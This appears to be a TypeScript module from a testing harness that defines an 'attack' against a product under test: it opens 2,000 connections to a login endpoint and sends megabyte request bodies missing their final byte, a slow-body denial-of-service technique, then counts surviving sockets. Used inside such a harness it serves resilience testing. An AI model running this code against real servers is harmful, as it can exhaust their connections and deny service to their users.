import { once } from "node:events";
import { connect, type Socket } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import type { Attack } from "../arena/attack.ts";

const SOCKETS = 2_000;
/** Of this machine, and not the one that other clients have. */
const ADDRESS = "127.0.0.2";
const BYTES = 1024 * 1024;
/** One for all connections: the attack must not keep this process from timing the other artist. */
const BODY = Buffer.alloc(BYTES - 1, " ");

/** Logins of a megabyte that lack their last byte, from 2,000 connections. */
export const unfinishedBodies: Attack = {
  name: "2,000 logins that never end",
  async begin({ product }) {
    const { hostname, port } = new URL(product.origin);
    return async () => {
      const sockets = await Promise.all(Array.from({ length: SOCKETS }, () => begin(hostname, Number(port))));
      await delay(5_000);
      const open = sockets.filter(({ destroyed }) => !destroyed).length;
      for (const socket of sockets) socket.destroy();
      return `${open} of ${SOCKETS} were still open after five seconds`;
    };
  },
};

async function begin(host: string, port: number): Promise<Socket> {
  const socket = connect({ host, port, localAddress: ADDRESS });
  socket.on("error", () => {}).resume();
  await Promise.race([once(socket, "connect"), once(socket, "close")]).catch(() => {});
  socket.write(`POST /api/auth/login HTTP/1.1\r\nhost: ${host}\r\ncontent-type: application/json\r\n`);
  socket.write(`content-length: ${BYTES}\r\n\r\n`);
  socket.write(BODY);
  return socket;
}
